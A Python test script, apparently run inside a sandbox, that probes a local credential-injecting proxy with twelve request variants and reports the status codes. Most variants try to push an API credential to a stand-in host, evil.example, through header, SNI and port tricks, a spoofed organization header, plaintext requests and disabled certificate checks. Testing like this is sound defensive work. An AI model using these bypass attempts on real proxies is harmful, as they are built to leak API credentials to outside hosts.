"""Ways to ask the proxy of a box for the credential's company to somewhere else; run in the box.

Prints a JSON object: how the proxy answered each, as a status code, or what went wrong.
"""

import json
import os
import socket
import ssl

PLACEHOLDER = os.environ["OPENAI_API_KEY"]
OWN = "sk-of-somebody-else"  # where a placeholder would be refused for being one
CA = os.environ["SSL_CERT_FILE"]
ATTEMPTS = {}


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def ask(wire, target, host, method="GET", key=OWN, **headers):
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"Authorization: Bearer {key}"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    wire.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
    return int(wire.recv(1 << 16).split()[1])


def proxy():
    return socket.create_connection(("127.0.0.1", 3128), timeout=20)


def tunnel(authority):
    wire = proxy()
    status = ask(wire, authority, authority, method="CONNECT")
    assert status == 200, f"CONNECT: {status}"
    return wire


def secure(wire, name):
    context = ssl.create_default_context(cafile=CA)
    context.check_hostname = False  # an attacker does not mind
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(wire, server_hostname=name)


@attempt
def as_it_should_be():
    with secure(tunnel("api.openai.com:443"), "api.openai.com") as wire:
        return ask(wire, "/v1/models", "api.openai.com", key=PLACEHOLDER)


@attempt
def in_the_name_of_another_organization():
    with secure(tunnel("api.openai.com:443"), "api.openai.com") as wire:
        return ask(wire, "/v1/models", "api.openai.com", OpenAI_Organization="org-evil")


@attempt
def to_another_host_in_the_name_of_an_organization():
    with secure(tunnel("evil.example:443"), "evil.example") as wire:
        return ask(wire, "/", "evil.example", OpenAI_Organization="org-evil")


@attempt
def in_the_clear():
    with proxy() as wire:
        return ask(wire, "http://api.openai.com/v1/models", "api.openai.com")


@attempt
def in_the_clear_to_443():
    with proxy() as wire:
        return ask(wire, "http://api.openai.com:443/v1/models", "api.openai.com:443")


@attempt
def in_the_clear_in_a_tunnel():
    with tunnel("api.openai.com:443") as wire:
        return ask(wire, "/v1/models", "api.openai.com:443")


@attempt
def to_another_port():
    with secure(tunnel("api.openai.com:8443"), "api.openai.com") as wire:
        return ask(wire, "/v1/models", "api.openai.com:8443")


@attempt
def to_another_host():
    with secure(tunnel("evil.example:443"), "evil.example") as wire:
        return ask(wire, "/v1/models", "evil.example", X_Key=OWN)


@attempt
def to_another_host_in_the_name_of_the_api():
    with secure(tunnel("evil.example:443"), "evil.example") as wire:
        return ask(wire, "/v1/models", "api.openai.com")


@attempt
def to_another_host_with_the_apis_server_name():
    with secure(tunnel("evil.example:443"), "api.openai.com") as wire:
        return ask(wire, "/v1/models", "evil.example")


@attempt
def to_the_api_in_the_name_of_another_host():
    with secure(tunnel("api.openai.com:443"), "api.openai.com") as wire:
        return ask(wire, "/v1/models", "evil.example")


@attempt
def to_a_host_nobody_allowed():
    with secure(tunnel("forbidden.example:443"), "forbidden.example") as wire:
        return ask(wire, "/v1/models", "forbidden.example")


found = {}
for name, function in ATTEMPTS.items():
    try:
        found[name] = function()
    except Exception as error:
        found[name] = type(error).__name__
print(json.dumps(found))
